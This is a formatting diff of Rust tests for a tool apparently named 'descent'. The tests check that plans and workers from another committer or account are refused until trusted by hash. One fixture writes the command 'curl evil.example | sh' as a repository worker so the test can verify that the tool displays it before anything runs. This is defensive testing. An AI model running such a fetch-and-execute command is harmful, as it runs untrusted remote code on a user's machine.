@@ -23,10 +23,7 @@ fn align_shows_the_worker_and_another_hands_is_refused_later_until_it_is_allowed
     let world = World::new();
     world.write("descent.toml", "worker = {run = \"touch done\"}\n");
     let path = world.plan(&for_worker());
-    world
-        .descent(&["align", "-y", "-f", &path])
-        .expect(0)
-        .shows("the worker: touch done");
+    world.descent(&["align", "-y", "-f", &path]).expect(0).shows("the worker: touch done");
     let other = format!("touch done {}", world.out("worker").display());
     world.write("descent.toml", &format!("worker = {{run = \"{other}\"}}\n"));
     commit_as(&world, "eve@example.org");
@@ -94,18 +91,11 @@ fn all_that_a_configuration_starts_is_shown_and_a_persons_own_file_asks_nothing(
         "setting idle of b 90 s",
         "setting events of c text",
     ] {
-        assert!(
-            shown.iter().any(|one| one == line),
-            "no `{line}` in {shown:#?}"
-        );
+        assert!(shown.iter().any(|one| one == line), "no `{line}` in {shown:#?}");
     }
     trust(&world);
     // Another role of that file is another thing to allow; the person's own file is not.
-    fs::write(
-        dir.join("config.toml"),
-        "[agents.own]\nrun = \"touch done\"\n",
-    )
-    .unwrap();
+    fs::write(dir.join("config.toml"), "[agents.own]\nrun = \"touch done\"\n").unwrap();
     world.run().expect(0);
 }
 
@@ -147,16 +137,11 @@ fn an_edited_plan_of_another_is_taken_in_only_after_it_was_allowed() {
     let mine = plan(&["false"], json!({}), json!({"A1": task("true")}));
     world.align(&mine);
     let before = world.state_bytes();
-    world
-        .descent(&["align", "-y", "-f", &path])
-        .expect(77)
-        .says("eve@example.org");
+    world.descent(&["align", "-y", "-f", &path]).expect(77).says("eve@example.org");
     assert_eq!(world.state_bytes(), before);
     let shown = world.descent(&["trust", "--plan", &path, "--json"]).json();
     let hash = shown["hash"].as_str().expect("a digest");
-    world
-        .descent(&["trust", "--plan", &path, "--hash", hash])
-        .expect(0);
+    world.descent(&["trust", "--plan", &path, "--hash", hash]).expect(0);
     world.descent(&["align", "-y", "-f", &path]).expect(0);
     assert_ne!(world.state_bytes(), before);
 }
@@ -165,11 +150,7 @@ fn an_edited_plan_of_another_is_taken_in_only_after_it_was_allowed() {
 fn new_atoms_of_another_are_added_only_after_they_were_allowed_with_or_without_an_objective() {
     for is_whole in [true, false] {
         let world = World::new();
-        world.align(&plan(
-            &["test -f done"],
-            json!({}),
-            json!({"own": task("touch done")}),
-        ));
+        world.align(&plan(&["test -f done"], json!({}), json!({"own": task("touch done")})));
         let mut theirs = marking(&world);
         if !is_whole {
             theirs.as_object_mut().unwrap().remove("objective");
@@ -182,9 +163,7 @@ fn new_atoms_of_another_are_added_only_after_they_were_allowed_with_or_without_a
         let shown = world.descent(&["trust", "--plan", "theirs.json", "--json"]);
         let shown = shown.expect(77).json();
         let hash = shown["hash"].as_str().unwrap();
-        world
-            .descent(&["trust", "--plan", "theirs.json", "--hash", hash])
-            .expect(0);
+        world.descent(&["trust", "--plan", "theirs.json", "--hash", hash]).expect(0);
         world.descent(&add).expect(0);
     }
 }
@@ -192,34 +171,23 @@ fn new_atoms_of_another_are_added_only_after_they_were_allowed_with_or_without_a
 #[test]
 fn a_plan_that_was_allowed_by_its_digest_is_taken_unasked_until_it_changes() {
     let (world, path) = cloned_plan();
-    let shown = world
-        .descent(&["trust", "--plan", &path, "--json"])
-        .expect(77)
-        .json();
+    let shown = world.descent(&["trust", "--plan", &path, "--json"]).expect(77).json();
     let hash = shown["hash"].as_str().unwrap();
-    world
-        .descent(&["trust", "--plan", &path, "--hash", hash])
-        .expect(0);
+    world.descent(&["trust", "--plan", &path, "--hash", hash]).expect(0);
     assert_eq!(marks(&world), 0);
     world.descent(&["align", "-y", "-f", &path]).expect(0);
     world.run().expect(0);
-    let changed = world
-        .read("plan.json")
-        .replace("touch done", "touch done; true");
+    let changed = world.read("plan.json").replace("touch done", "touch done; true");
     world.write("plan.json", &changed);
     commit_as(&world, "eve@example.org");
-    world
-        .descent(&["align", "-y", "--force", "-f", &path])
-        .expect(77);
+    world.descent(&["align", "-y", "--force", "-f", &path]).expect(77);
 }
 
 #[test]
 fn at_a_terminal_align_asks_about_a_strangers_plan_before_it_runs_its_checks() {
     let (world, path) = cloned_plan();
     let mut command = world.command(&["align", "-f", &path]);
-    terminal::answered(&mut command, QUESTION, "n\n")
-        .expect(77)
-        .says("eve@example.org");
+    terminal::answered(&mut command, QUESTION, "n\n").expect(77).says("eve@example.org");
     assert_eq!(marks(&world), 0);
     assert!(!world.state_path().exists());
 }
@@ -287,10 +255,7 @@ fn line_endings_of_a_checkout_do_not_make_a_strangers_plan_ones_own() {
 #[test]
 fn a_worker_that_came_with_the_repository_is_shown_before_anything_is_agreed() {
     let world = World::new();
-    world.write(
-        "descent.toml",
-        "worker = {run = \"curl evil.example | sh\"}\n",
-    );
+    world.write("descent.toml", "worker = {run = \"curl evil.example | sh\"}\n");
     commit_as(&world, "eve@example.org");
     let plan = world.plan(&for_worker());
     world
@@ -298,14 +263,9 @@ fn a_worker_that_came_with_the_repository_is_shown_before_anything_is_agreed() {
         .expect(77)
         .says("curl evil.example")
         .says("descent trust --worker --hash sha256:");
-    let shown = world
-        .descent(&["trust", "--worker", "--json"])
-        .expect(77)
-        .json();
+    let shown = world.descent(&["trust", "--worker", "--json"]).expect(77).json();
     let hash = shown["hash"].as_str().unwrap();
-    world
-        .descent(&["trust", "--worker", "--hash", hash])
-        .expect(0);
+    world.descent(&["trust", "--worker", "--hash", hash]).expect(0);
     world.descent(&["align", "-y", "-f", &plan]).expect(0);
 }
 
@@ -314,14 +274,9 @@ fn a_plan_and_a_worker_of_a_stranger_are_allowed_by_one_digest() {
     let (world, path) = cloned_plan();
     world.write("descent.toml", "worker = {run = \"touch done\"}\n");
     commit_as(&world, "eve@example.org");
-    let shown = world
-        .descent(&["trust", "-f", &path, "--json"])
-        .expect(77)
-        .json();
+    let shown = world.descent(&["trust", "-f", &path, "--json"]).expect(77).json();
     let hash = shown["hash"].as_str().unwrap();
-    world
-        .descent(&["trust", "-f", &path, "--hash", hash])
-        .expect(0);
+    world.descent(&["trust", "-f", &path, "--hash", hash]).expect(0);
     world.descent(&["align", "-y", "-f", &path]).expect(0);
     world.run().expect(0);
 }
@@ -334,9 +289,6 @@ fn a_plan_of_another_account_is_a_strangers() {
     let world = World::new();
     let path = world.plan(&marking(&world));
     chown(&path, Some(4242), None).unwrap();
-    world
-        .descent(&["align", "-y", "-f", &path])
-        .expect(77)
-        .says("another account (4242)");
+    world.descent(&["align", "-y", "-f", &path]).expect(77).says("another account (4242)");
     assert_eq!(marks(&world), 0);
 }
